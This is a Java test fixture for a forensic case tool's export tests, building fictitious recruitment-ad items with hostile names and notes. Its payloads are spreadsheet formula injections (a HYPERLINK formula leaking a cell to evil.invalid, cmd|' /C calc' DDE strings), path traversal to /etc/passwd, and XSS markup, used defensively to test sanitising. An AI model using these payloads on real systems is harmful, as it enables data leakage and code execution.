package org.tracelab.core.export;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.util.Map;
import org.tracelab.core.Case;
import org.tracelab.core.CaseManifest;
import org.tracelab.core.collect.CaptureSink;
import org.tracelab.core.collect.NewItem;

/** A small case of fictitious items with hostile names, for the export tests. */
final class ExportCase {
    static final String PURPOSE = "Training exercise: export tests (all data fictitious)";
    static final Instant AT = Instant.parse("2026-03-01T10:15:30.123Z");

    /** Sources a collector may really record: formula starters, path escapes, control characters, markup. */
    static final String[] HOSTILE_SOURCES = {
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
        "+998 90 000 00 00 (fictitious)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tleading tab",
        "\rleading carriage return",
        "../../../../etc/passwd",
        "/evidence/" + "x".repeat(300) + ".txt",
        "name with \u0000 nul, \n newline, \u001b[31m escape, \u202e rtl",
        "http://127.0.0.1/ad?<script>document.title='PWNED'</script>",
        "comma, \"quoted\" and\r\nline break",
    };

    /** Ads of {@link #createLinkedAds}: all share one fictitious phone, so they make one cluster. */
    static final int LINKED_ADS = 3;

    private ExportCase() {
    }

    /**
     * A new ingested case of {@link #LINKED_ADS} fictitious ads sharing a phone, with markup in their sources, in
     * their texts and around the phone and handle; each names a recruitment indicator.
     */
    static Case createLinkedAds(Path dir) throws IOException {
        Case c = Case.create(dir, CaseManifest.create("Linked ads (fictitious)", "Cadet A", PURPOSE, "UZ", AT),
                Clock.systemUTC());
        CaptureSink sink = c.startCapture("file", Map.of("paths", "fictitious"), null);
        for (int i = 0; i < LINKED_ADS; i++) {
            String text = "Fictitious ad " + i + ": waiter abroad. On arrival the passport is kept by the employer "
                    + "for safety <img src=x onerror=\"document.title='PWNED'\">. Call <b>+998 90 000 00 0" + i
                    + "</b> or +998 (90) 111-22-33 <script>x()</script>, Telegram @fict_<i>recruiter</i>_bot.";
            NewItem item = NewItem.of("file", "/fictitious/<script>alert('svg')</script>-" + i + ".txt",
                    AT.plusSeconds(i), "file", "text/plain", null, Map.of());
            sink.store(item, new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)));
        }
        c.finishCapture("file", Map.of("items", LINKED_ADS));
        c.ingest(org.tracelab.core.collect.Progress.NONE);
        return c;
    }

    /** A new case open for writing with one file item per hostile source, and one tagged item. */
    static Case create(Path dir) throws IOException {
        Case c = Case.create(dir, CaseManifest.create("Export lab (fictitious)", "Cadet A", PURPOSE, "UZ", AT),
                Clock.systemUTC());
        CaptureSink sink = c.startCapture("file", Map.of("paths", "fictitious"), null);
        long first = -1;
        for (int i = 0; i < HOSTILE_SOURCES.length; i++) {
            byte[] bytes = ("fictitious content " + i + " <script>alert(1)</script>").getBytes(StandardCharsets.UTF_8);
            NewItem item = NewItem.of("file", HOSTILE_SOURCES[i], AT.plusSeconds(i), "file", "text/plain", null,
                    Map.of("title", HOSTILE_SOURCES[i]));
            long id = sink.store(item, new ByteArrayInputStream(bytes)).id();
            first = first < 0 ? id : first;
        }
        c.finishCapture("file", Map.of("items", HOSTILE_SOURCES.length));
        c.tag(first, "=cmd|' /C calc'!A0");
        c.tag(first, "suspicious");
        c.note(first, "<img src=x onerror=\"document.title='PWNED'\"> <a href=\"javascript:alert(1)\">x</a>");
        return c;
    }
}
